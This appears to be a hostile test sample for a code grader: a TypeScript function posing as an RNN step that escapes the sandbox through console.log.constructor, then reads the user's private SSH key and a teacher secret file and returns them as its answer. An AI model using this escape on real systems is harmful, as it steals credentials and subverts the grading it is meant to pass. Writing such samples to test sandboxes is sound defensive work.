// expect 0: reads ~/.ssh and the teacher's key at its real path, and answers with what it found.
const hostProcess = console.log.constructor('return process')();
const fs = hostProcess.mainModule.require('fs');
const os = hostProcess.mainModule.require('os');
function tryRead(path: string): string {
  try { return fs.readFileSync(path, 'utf8'); } catch (error) { return `unreadable: ${(error as Error).message}`; }
}
const hostileAnswer = tryRead('__TEACHER_SECRET__') + tryRead(`${os.homedir()}/.ssh/id_rsa`);
function rnnStep(aPrev: number[], x: number[], waa: number, wax: number, ba: number): string[] {
  return [tryRead('__TEACHER_SECRET__'), tryRead(`${os.homedir()}/.ssh/id_rsa`)];
}
